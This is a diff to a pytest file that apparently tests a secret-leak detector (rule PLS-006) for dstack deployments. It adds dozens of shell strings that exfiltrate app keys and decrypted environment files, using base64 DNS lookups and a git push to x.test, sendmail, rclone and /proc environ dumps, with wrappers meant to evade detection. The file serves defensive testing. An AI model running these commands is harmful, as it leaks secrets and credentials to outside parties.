@@ -96,7 +96,42 @@ MORE_LEAKS = (
     "cd /dstack; cat .host-shared/.appkeys.json",
     "cat /var/volatile/dstack/.host-shared/.appkeys.json",
 )
+WRAPPED = (
+    *("env -i", "timeout 5", "stdbuf -o0", "nice -n 5", "unshare", "chroot /", "busybox", "sudo"),
+    *("command", "systemd-run", "A=1", "setsid -w", "flock /x"),
+)
+OTHER_LEAKS = (
+    *(f"{wrapper} cat {KEYS}" for wrapper in WRAPPED),
+    *(f"{shell} 'cat {KEYS}'" for shell in ("sh -ec", "su -c", "timeout 5 bash -lc", "script -c")),
+    *(f"{program} {KEYS}" for program in ("m4", "diff /dev/null", "some-program --read", "lp")),
+    *(f"{lookup} $(base64 {KEYS}).x.test" for lookup in ("nslookup", "getent hosts", "dig +short")),
+    *(f"{sender} < {KEYS}" for sender in ("wall", "sendmail a@x.test", "http POST x.test")),
+    f"IFS= read -r x < {KEYS}; echo $x",
+    f"{{ cat {KEYS}; }} | cat",
+    f"cat {KEYS} | xargs",
+    f"cp {KEYS} /dev/console",
+    f"rclone copy {KEYS} r:x",
+    f"git push http://$(base64 {KEYS})@x.test/y",
+    "grep -r . /dstack/.host-shared",
+    "find /dstack -type f | xargs cat",
+    "docker compose --env-file /dstack/.host-shared/.decrypted-env config",
+    "cat /proc/self/environ",
+    "tr '\\0' '\\n' < /proc/1/environ > /dev/console",
+    "export $(cat /dstack/.host-shared/.decrypted-env)\nenv | sort",
+    "declare -p",
+    "export -p",
+)
 HONEST = (
+    "export $(grep -v '^#' /dstack/.host-shared/.decrypted-env | xargs)",
+    "set -a\n. /dstack/.host-shared/.decrypted-env\nset +a",
+    "docker compose --env-file /dstack/.host-shared/.decrypted-env up -d",
+    f"A=$(jq -r .k256_key {KEYS}) docker compose up -d",
+    f"cp {KEYS} /tmp/x",
+    f"sha256sum {KEYS}",
+    "if grep -q '^A=' /dstack/.host-shared/.decrypted-env; then export B=1; fi",
+    f'X=$(cat {KEYS})\n[ -n "$X" ] || exit 1\necho ok',
+    'while read -r l; do export "$l"; done < /dstack/.host-shared/.decrypted-env',
+    "set -euo pipefail\nexport A=1\nenv > /tmp/e\nfind /dstack -name '*.log' -delete",
     f"export K=$(cat {KEYS} | jq -r .k256_key)",
     f"K=$(cat {KEYS} | base64)",
     f"test -f {KEYS} || exit 1\necho ready > /dev/console",
@@ -114,7 +149,7 @@ def rules(text: str) -> set[str]:
     return {finding.rule for finding in audit_manifest(script(text).raw).findings}
 
 
-@pytest.mark.parametrize("text", [*LEAKS, *MORE_LEAKS])
+@pytest.mark.parametrize("text", [*LEAKS, *MORE_LEAKS, *OTHER_LEAKS])
 def test_a_leak_is_found_however_it_is_written(text: str) -> None:
     assert "PLS-006" in rules(text)
 
